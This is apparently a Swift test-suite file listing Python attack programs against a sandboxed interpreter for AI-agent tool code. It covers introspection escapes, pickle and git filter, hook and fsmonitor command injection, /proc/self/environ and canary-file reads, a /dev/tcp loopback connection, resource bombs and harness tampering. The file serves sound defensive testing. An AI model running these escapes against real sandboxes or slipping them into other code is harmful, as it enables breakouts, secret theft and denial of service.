/// The attack programs of the attack suite (issue 5). Each aims at a real goal: reading the secret
/// file, printing the host's secret environment variable, writing outside the workspace, reaching
/// the loopback listener, running a process, or taking the host down. See `Attack` for placeholders.
enum AttackPrograms {
    static let all: [Attack] = introspection + imports + files + processes + network + environment
        + traversal + backends + resources + hostCrash

    // MARK: - Introspection escapes

    static let introspection: [Attack] = [
        Attack("subclass-walk", .introspection, #"""
            for c in ().__class__.__base__.__subclasses__():
                if c.__name__ == "_wrap_close":
                    print(c.__init__.__globals__["popen"]("cat {{CANARY}}").read())
            """#),
        Attack("subclass-walk-via-type", .introspection, #"""
            for c in type.__subclasses__(object):
                if c.__name__ == "_wrap_close":
                    print(c.__init__.__globals__["environ"]["{{ENV}}"])
            """#),
        Attack("generator-gi-frame", .introspection, #"""
            def g():
                yield 1
            gen = g()
            print(gen.gi_frame.f_builtins["open"]("{{CANARY}}").read())
            """#),
        Attack("generator-frame-f-back-globals", .introspection, #"""
            def g():
                yield 1
            gen = g()
            next(gen)
            frame = gen.gi_frame
            while frame.f_back is not None:
                frame = frame.f_back
            print(frame.f_globals["sys"].modules["os"].environ["{{ENV}}"])
            """#),
        Attack("traceback-frames", .introspection, #"""
            try:
                1 / 0
            except Exception as e:
                tb = e.__traceback__
                print(tb.tb_frame.f_back.f_globals["__builtins__"]["open"]("{{CANARY}}").read())
            """#),
        Attack("traceback-via-built-getattr", .introspection, #"""
            try:
                1 / 0
            except Exception as e:
                tb = getattr(e, "__trace" + "back__")
                frame = getattr(tb, "tb_" + "frame")
                print(getattr(frame, "f_" + "builtins")["open"]("{{CANARY}}").read())
            """#),
        Attack("tool-function-globals", .introspection, #"""
            print(read_file.__globals__["sys"].modules["os"].environ["{{ENV}}"])
            """#),
        Attack("format-string-attribute", .introspection, #"""
            print("{0.__globals__[sys].modules[os].environ}".format(read_file))
            """#),
        Attack("format-string-built-at-runtime", .introspection, #"""
            template = "{0.__glo" + "bals__[sys].modules[os].environ[{{ENV}}]}"
            print(template.format(read_file))
            """#),
        Attack("format-map", .introspection, #"""
            print(str.format_map("{f.__glo" + "bals__[sys].modules[os].environ}", {"f": read_file}))
            """#),
        Attack("getattr-built-name", .introspection, #"""
            cls = getattr((), "__cl" + "ass__")
            base = getattr(cls, "__ba" + "se__")
            for c in getattr(base, "__subcl" + "asses__")():
                if c.__name__ == "_wrap_close":
                    print(c)
            """#),
        Attack("getattr-built-name-on-tool", .introspection, #"""
            g = getattr(read_file, "".join(["_", "_", "globals", "_", "_"]))
            print(g["sys"].modules["os"].environ["{{ENV}}"])
            """#),
        Attack("unicode-identifier", .introspection, #"""
            print(().__ｃlass__.__ｂase__.__ｓubclasses__())
            """#),
        Attack("vars-dir-type", .introspection, #"""
            print(vars(read_file))
            print(dir(type(read_file)))
            """#),
        Attack("type-three-argument-metaclass", .introspection, #"""
            T = type("T", (), {"x": 1})
            print(type(T).mro(type(T)))
            """#),
        Attack("empty-tuple-subclasses", .introspection, #"""
            print(().__class__.__base__.__subclasses__())
            """#),
        Attack("exception-traceback-frame-globals", .introspection, #"""
            try:
                read_file("missing-file.txt")
            except ToolError as e:
                print(e.__traceback__.tb_next.tb_frame.f_globals["_punie"])
            """#),
        Attack("operator-attrgetter-dunder", .introspection, #"""
            import operator
            for c in operator.attrgetter("__class__.__base__.__subclasses__")(())():
                if operator.attrgetter("__name__")(c) == "_wrap_close":
                    g = operator.attrgetter("__init__.__globals__")(c)
                    print(g["popen"]("cat {{CANARY}}").read())
            """#),
        Attack("operator-methodcaller-dunder", .introspection, #"""
            from operator import methodcaller, attrgetter
            subclasses = methodcaller("__subclasses__")(attrgetter("__base__")(type(())))
            print([c for c in subclasses if "wrap_close" in str(c)])
            """#),
        Attack("match-class-pattern", .introspection, #"""
            match ():
                case object(__class__=object(__base__=base)):
                    for c in base.__subclasses__():
                        print(c)
            """#),
        Attack("match-class-pattern-kwd-attrs-only", .introspection, #"""
            match read_file:
                case object(__globals__=g):
                    print(g["sys"].modules["os"].environ["{{ENV}}"])
            """#),
        Attack("string-formatter-get-field", .introspection, #"""
            import string
            f = string.Formatter()
            subclasses, _ = f.get_field("0.__class__.__base__.__subclasses__", [()], {})
            for c in subclasses():
                if "wrap_close" in str(c):
                    g, _ = f.get_field("0.__init__.__globals__", [c], {})
                    print(g["popen"]("cat {{CANARY}}").read())
            """#),
        Attack("string-annotation-evaluated-by-typing", .introspection, #"""
            import typing
            def f(x: "[print(g['popen']('cat {{CANARY}}').read()) for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close' for g in [c.__init__.__globals__]] and int"):
                pass
            print(typing.get_type_hints(f))
            """#),
        Attack("typing-forward-ref-evaluate", .introspection, #"""
            import typing
            ref = typing.ForwardRef("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['environ']['{{ENV}}']")
            print(ref._evaluate({}, {}, frozenset()))
            """#),
        Attack("dataclasses-create-fn-exec", .introspection, #"""
            import dataclasses
            f = dataclasses._create_fn("f", [], ["return open('{{CANARY}}').read()"], globals={})
            print(f())
            """#),
        Attack("code-object-replace", .introspection, #"""
            import operator
            f = lambda: 0
            code = operator.attrgetter("__code__")(f)
            print(code.replace(co_consts=()))
            """#),
        Attack("globals-locals-builtins", .introspection, #"""
            print(globals()["__builtins__"]["open"]("{{CANARY}}").read())
            """#),
        Attack("metaclass-namespace-builtins", .introspection, #"""
            class Meta(type):
                def __new__(mcs, name, bases, ns):
                    return ns
            class A(metaclass=Meta):
                pass
            print(A["__builtins__"]["open"]("{{CANARY}}").read())
            """#),
    ]

    // MARK: - Imports

    static let imports: [Attack] = [
        Attack("import-os", .imports, "import os\nprint(os.environ['{{ENV}}'])"),
        Attack("import-subprocess", .imports, "import subprocess\nprint(subprocess.check_output(['cat', '{{CANARY}}']))"),
        Attack("import-ctypes", .imports, "import ctypes\nctypes.string_at(0)"),
        Attack("import-importlib", .imports, "import importlib\nprint(importlib.import_module('os').environ['{{ENV}}'])"),
        Attack("import-sys", .imports, "import sys\nprint(sys.modules['os'].environ['{{ENV}}'])"),
        Attack("import-builtins", .imports, "import builtins\nprint(builtins.open('{{CANARY}}').read())"),
        Attack("import-io", .imports, "import io\nprint(io.open('{{CANARY}}').read())"),
        Attack("import-pathlib", .imports, "from pathlib import Path\nprint(Path('{{CANARY}}').read_text())"),
        Attack("import-socket", .imports, "import socket\nsocket.create_connection(('127.0.0.1', {{PORT}}))"),
        Attack("import-pickle", .imports, "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'cat {{CANARY}} > {{DROP}}'\\ntR.\")"),
        Attack("import-marshal", .imports, "import marshal\nprint(marshal.loads(b'\\xe3'))"),
        Attack("import-code", .imports, "import code\ncode.interact()"),
        Attack("import-pdb", .imports, "import pdb\npdb.set_trace()"),
        Attack("dunder-import-call", .imports, "print(__import__('os').environ['{{ENV}}'])"),
        Attack("import-from-builtins-dict", .imports, #"""
            from json import __builtins__ as b
            print(b["open"]("{{CANARY}}").read())
            """#),
        Attack("module-dict-builtins", .imports, #"""
            import json
            print(json.__dict__["__builtins__"]["open"]("{{CANARY}}").read())
            """#),
        Attack("json-codecs-open", .imports, #"""
            import json
            print(json.codecs.open("{{CANARY}}").read())
            """#),
        Attack("json-decoder-re-chain", .imports, #"""
            import json.decoder
            sre = json.decoder.re._compiler._sre
            print(sre.compile("a", 0, [1, 2, 3], 0, {}, (None,)))
            """#),
        Attack("dataclasses-sys-modules", .imports, #"""
            import dataclasses
            print(dataclasses.sys.modules["os"].environ["{{ENV}}"])
            """#),
        Attack("dataclasses-builtins-open", .imports, #"""
            import dataclasses
            print(dataclasses.builtins.open("{{CANARY}}").read())
            """#),
        Attack("enum-bltns-eval", .imports, #"""
            import enum
            print(enum.bltns.eval("open('{{CANARY}}').read()", {}))
            """#),
        Attack("collections-abc-sys", .imports, #"""
            import collections.abc
            print(collections.abc.sys.modules["os"].environ["{{ENV}}"])
            """#),
        Attack("collections-private-sys", .imports, #"""
            import collections
            print(collections._sys.modules["builtins"].open("{{CANARY}}").read())
            """#),
        Attack("random-private-os", .imports, #"""
            import random
            print(random._os.environ["{{ENV}}"])
            """#),
        Attack("fnmatch-os", .imports, #"""
            import fnmatch
            print(fnmatch.os.listdir("{{CANARY_DIR}}"))
            """#),
        Attack("from-import-module-attribute", .imports, #"""
            from typing import sys
            print(sys.modules["builtins"].open("{{CANARY}}").read())
            """#),
        Attack("typing-sys-importlib", .imports, #"""
            import typing
            print(typing.sys.modules["importlib"].import_module("socket"))
            """#),
        Attack("relative-import", .imports, "from . import secrets\nprint(secrets)"),
        Attack("import-os-path-dotted", .imports, "import os.path\nprint(os.path.exists('{{CANARY}}'))"),
    ]

    // MARK: - Files

    static let files: [Attack] = [
        Attack("open-builtin", .files, "print(open('{{CANARY}}').read())"),
        Attack("open-write-outside", .files, "open('{{DROP}}', 'w').write('pwned')"),
        Attack("os-open-through-module-attribute", .files, #"""
            import fnmatch
            fd = fnmatch.os.open("{{CANARY}}", 0)
            print(fnmatch.os.read(fd, 1000))
            """#),
        Attack("builtins-open-write", .files, #"""
            import dataclasses
            dataclasses.builtins.open("{{DROP}}", "w").write("pwned")
            """#),
        Attack("exec-real-builtins-write", .files, #"""
            import enum
            enum.bltns.exec("open('{{DROP}}', 'w').write('pwned')", {})
            """#),
    ]

    // MARK: - Processes

    static let processes: [Attack] = [
        Attack("os-system", .processes, #"""
            import dataclasses
            dataclasses.sys.modules["os"].system("cat {{CANARY}} > {{DROP}}")
            """#),
        Attack("os-fork", .processes, #"""
            import fnmatch
            pid = fnmatch.os.fork()
            print("forked", pid)
            """#),
        Attack("os-posix-spawn", .processes, #"""
            import fnmatch
            fnmatch.os.posix_spawn("/bin/sh", ["sh", "-c", "cat {{CANARY}} > {{DROP}}"], {})
            """#),
        Attack("os-execv", .processes, #"""
            import fnmatch
            fnmatch.os.execv("/bin/sh", ["sh", "-c", "cat {{CANARY}} > {{DROP}}"])
            """#),
        Attack("os-kill-parent", .processes, #"""
            import fnmatch
            fnmatch.os.kill(fnmatch.os.getppid(), 9)
            """#),
        Attack("exec-import-subprocess", .processes, #"""
            import enum
            enum.bltns.exec("import subprocess\nsubprocess.run(['sh', '-c', 'cat {{CANARY}} > {{DROP}}'])", {})
            """#),
        Attack("run-command-disallowed", .processes, #"""
            print(run_command("sh", ["-c", "cat {{CANARY}}"]))
            """#),
    ]

    // MARK: - Network

    static let network: [Attack] = [
        Attack("socket-connect", .network, #"""
            import socket
            s = socket.socket()
            s.connect(("127.0.0.1", {{PORT}}))
            """#),
        Attack("exec-socket-connect", .network, #"""
            import enum
            enum.bltns.exec("import socket\nsocket.create_connection(('127.0.0.1', {{PORT}}))", {})
            """#),
        Attack("private-socket-module", .network, #"""
            import typing
            raw = typing.sys.modules["_socket"]
            s = raw.socket()
            s.connect(("127.0.0.1", {{PORT}}))
            """#),
    ]

    // MARK: - Environment

    static let environment: [Attack] = [
        Attack("os-environ-through-module", .environment, #"""
            import fnmatch
            print(fnmatch.os.environ["{{ENV}}"])
            """#),
        Attack("os-getenv-through-module", .environment, #"""
            import random
            value = random._os.getenv("{{ENV}}")
            print(value, dict(random._os.environ))
            """#),
        Attack("proc-self-environ", .environment, "print(open('/proc/self/environ').read())"),
        Attack("read-file-proc-environ", .environment, "print(read_file('/proc/self/environ'))"),
        Attack("read-file-proc-environ-traversal", .environment, #"""
            print(read_file("../" * 20 + "proc/self/environ"))
            """#),
        Attack("read-file-parent-environ", .environment, #"""
            import fnmatch
            print(read_file("../" * 20 + "proc/%d/environ" % fnmatch.os.getppid()))
            """#),
    ]

    // MARK: - Path traversal through tools

    static let traversal: [Attack] = [
        Attack("read-dotdot", .traversal, #"print(read_file("../" * 20 + "{{CANARY}}"[1:]))"#),
        Attack("read-absolute", .traversal, #"print(read_file("{{CANARY}}"))"#),
        Attack("read-symlink-file", .traversal, #"print(read_file("link.txt"))"#),
        Attack("read-symlink-directory", .traversal, #"print(read_file("outdir/secret.txt"))"#),
        Attack("read-nul-byte", .traversal, #"print(read_file("a.txt\x00/../../" + "{{CANARY}}"))"#),
        Attack("read-inner-dotdot", .traversal, #"print(read_file("sub/../../" + "../" * 20 + "{{CANARY}}"[1:]))"#),
        Attack("write-dotdot", .traversal, #"print(write_file("../{{ESCAPE}}", "pwned"))"#),
        Attack("write-absolute", .traversal, #"print(write_file("{{DROP}}", "pwned"))"#),
        Attack("write-through-symlink-directory", .traversal, #"print(write_file("outdir/dropped.txt", "pwned"))"#),
        Attack("write-over-symlink-file", .traversal, #"print(write_file("link.txt", "overwritten"))"#),
        Attack("write-git-dotdot", .traversal, #"print(write_file(".git/../../{{ESCAPE}}", "pwned"))"#),
        Attack("list-parent", .traversal, #"print([e.name for e in list_directory("..").entries])"#),
        Attack("list-absolute", .traversal, #"print([e.name for e in list_directory("{{CANARY_DIR}}").entries])"#),
        Attack("list-symlink-directory", .traversal, #"print([e.name for e in list_directory("outdir").entries])"#),
        Attack("git-status-parent", .traversal, #"print(git_status("..").files)"#),
        Attack("git-status-absolute", .traversal, #"print(git_status("{{CANARY_DIR}}").files)"#),
        Attack("git-status-nul", .traversal, #"print(git_status(".\x00/..").files)"#),
    ]

    // MARK: - Tool backends

    static let backends: [Attack] = [
        Attack("git-clean-filter", .backends, #"""
            config = read_file(".git/config")
            write_file(".gitattributes", "*.txt filter=evil\n")
            write_file(".git/config", config + "[filter \"evil\"]\n\tclean = cat {{CANARY}} > {{DROP}}; cat\n")
            write_file("a.txt", "ALPHA\n")
            print(git_status().files)
            """#),
        Attack("git-clean-filter-network", .backends, #"""
            config = read_file(".git/config")
            write_file(".gitattributes", "*.txt filter=net\n")
            write_file(".git/config", config + "[filter \"net\"]\n\tclean = bash -c 'echo hi > /dev/tcp/127.0.0.1/{{PORT}}'; cat\n")
            write_file("a.txt", "BETA!\n")
            print(git_status().files)
            """#),
        Attack("git-hook-planted", .backends, #"""
            write_file(".git/hooks/pre-commit", "#!/bin/sh\ncat {{CANARY}} > {{DROP}}\n")
            print(git_status().files)
            """#),
        Attack("git-attributes-info", .backends, #"""
            write_file(".git/info/attributes", "*.txt filter=evil\n")
            print(git_status().files)
            """#),
        Attack("git-fsmonitor", .backends, #"""
            config = read_file(".git/config")
            write_file(".git/config", config + "[core]\n\tfsmonitor = cat {{CANARY}} > {{DROP}}\n")
            print(git_status().files)
            """#),
        Attack("git-textconv-diff", .backends, #"""
            config = read_file(".git/config")
            write_file(".gitattributes", "*.txt diff=evil\n")
            write_file(".git/config", config + "[diff \"evil\"]\n\ttextconv = cat {{CANARY}} > {{DROP}}; cat\n\tcommand = cat {{CANARY}} > {{DROP}}\n")
            write_file("a.txt", "changed\n")
            print(git_diff().files)
            """#),
        Attack("git-pager-log", .backends, #"""
            config = read_file(".git/config")
            write_file(".git/config", config + "[core]\n\tpager = cat {{CANARY}} > {{DROP}}\n[log]\n\tshowSignature = true\n[gpg]\n\tprogram = cat {{CANARY}}\n")
            print(git_log())
            """#),
        Attack("pytest-conftest", .backends, #"""
            write_file("conftest.py", "print(open('{{CANARY}}').read())\nopen('{{DROP}}', 'w').write('x')\n")
            write_file("test_x.py", "def test_x():\n    pass\n")
            print(pytest_run("test_x.py"))
            """#),
    ]

    // MARK: - Resource bombs

    static let resources: [Attack] = [
        Attack("infinite-loop", .resources, "while True:\n    pass"),
        Attack("huge-int-power", .resources, "x = 10**10**8\nprint(x > 0)"),
        Attack("huge-string", .resources, "s = 'a' * 10**10\nprint(len(s))"),
        Attack("huge-list", .resources, "x = [0] * 10**9\nprint(len(x))"),
        Attack("memory-growth", .resources, "x = []\nwhile True:\n    x.append('a' * 10**6)"),
        Attack("deep-recursion", .resources, "def f(n):\n    return f(n + 1)\nf(0)"),
        Attack("output-flood", .resources, "while True:\n    print('a' * 10000)"),
        Attack("output-one-huge-line", .resources, "print('x' * 10**8)"),
        Attack("catastrophic-regex", .resources, "import re\nprint(re.match('(a+)+$', 'a' * 40 + 'b'))"),
        Attack("busy-wait-sleep", .resources, #"""
            import datetime
            end = datetime.datetime.now() + datetime.timedelta(seconds=60)
            while datetime.datetime.now() < end:
                pass
            """#),
        Attack("factorial-cpu", .resources, "import math\nprint(math.factorial(10**8) > 0)"),
        Attack("decimal-precision", .resources, #"""
            import decimal
            decimal.getcontext().prec = 10**9
            print(decimal.Decimal(1) / decimal.Decimal(7))
            """#),
        Attack("itertools-repeat-list", .resources, "import itertools\nprint(len(list(itertools.repeat(0))))"),
        Attack("tool-call-flood", .resources, "while True:\n    read_file('a.txt')"),
        Attack("huge-exception-message", .resources, "raise ValueError('x' * 10**7)"),
        Attack("exception-str-loops", .resources, #"""
            class E(Exception):
                def __str__(self):
                    while True:
                        pass
            raise E()
            """#),
        Attack("exception-str-huge", .resources, #"""
            class E(Exception):
                def __str__(self):
                    return "z" * 10**7
            raise E()
            """#),
        Attack("exception-str-raises", .resources, #"""
            class E(Exception):
                def __str__(self):
                    raise E()
            raise E()
            """#),
        Attack("json-deep-nesting", .resources, "import json\nprint(json.loads('[' * 10**6 + ']' * 10**6))"),
        Attack("timer-disabled-loop", .resources, #"""
            import typing
            signal = typing.sys.modules["signal"]
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.signal(signal.SIGXCPU, signal.SIG_IGN)
            while True:
                pass
            """#),
    ]

    // MARK: - Host-crash attempts

    static let hostCrash: [Attack] = [
        Attack("nested-map", .hostCrash, #"""
            x = [0]
            for i in range(10**6):
                x = map(abs, x)
            print(list(x))
            """#),
        Attack("nested-list-map-chain", .hostCrash, #"""
            x = iter([1])
            for i in range(10**6):
                x = filter(None, map(int, x))
            print(list(x))
            """#),
        Attack("deep-structure-repr", .hostCrash, #"""
            x = []
            for i in range(10**6):
                x = [x]
            print(repr(x))
            """#),
        Attack("deep-dict-json", .hostCrash, #"""
            import json
            x = {}
            for i in range(10**6):
                x = {"a": x}
            print(json.dumps(x))
            """#),
        Attack("deep-structure-deepcopy", .hostCrash, #"""
            import copy
            x = []
            for i in range(10**5):
                x = [x]
            print(len(copy.deepcopy(x)))
            """#),
        Attack("generator-recursion", .hostCrash, #"""
            def g(n):
                yield from g(n + 1)
            print(next(g(0)))
            """#),
        Attack("set-recursion-limit", .hostCrash, #"""
            import typing
            typing.sys.setrecursionlimit(10**6)
            def f(n):
                return f(n + 1)
            f(0)
            """#),
        Attack("deeply-nested-source", .hostCrash, "x = " + String(repeating: "(", count: 5000) + "1" + String(repeating: ")", count: 5000)),
        Attack("deeply-nested-unary-source", .hostCrash, "x = " + String(repeating: "-", count: 200_000) + "1"),
        Attack("deeply-nested-lambda-source", .hostCrash, "f = " + String(repeating: "lambda: ", count: 10_000) + "1"),
        Attack("forged-channel-frame", .hostCrash, #"""
            import fnmatch
            fnmatch.os.write(3, b"\xff" * 4096)
            print("forged")
            """#),
        Attack("huge-channel-frame-header", .hostCrash, #"""
            import fnmatch
            fnmatch.os.write(3, (2**31 - 1).to_bytes(4, "little") + b"\x00" * 60)
            while True:
                fnmatch.os.write(3, b"\x00" * 65536)
            """#),
        Attack("close-channel", .hostCrash, #"""
            import fnmatch
            fnmatch.os.close(3)
            print("closed")
            """#),
        Attack("read-channel", .hostCrash, #"""
            import fnmatch
            print(fnmatch.os.read(3, 65536))
            """#),
        Attack("abort", .hostCrash, "import fnmatch\nfnmatch.os.abort()"),
        Attack("exit-without-report", .hostCrash, "import fnmatch\nfnmatch.os._exit(0)"),
        Attack("stdout-channel-flood", .hostCrash, #"""
            import typing
            call_tool = typing.sys.modules["_punie"].call_tool
            chunk = "y" * (1 << 20)
            for i in range(100000):
                call_tool("\x00stdout", chunk)
            """#),
        Attack("harness-tampering", .hostCrash, #"""
            import typing
            runtime = typing.sys.modules["_punie_runtime"]
            runtime.FORBIDDEN_ATTRIBUTES = frozenset()
            runtime._safe_builtins["open"] = typing.sys.modules["builtins"].open
            print(open("{{CANARY}}").read())
            """#),
    ]
}
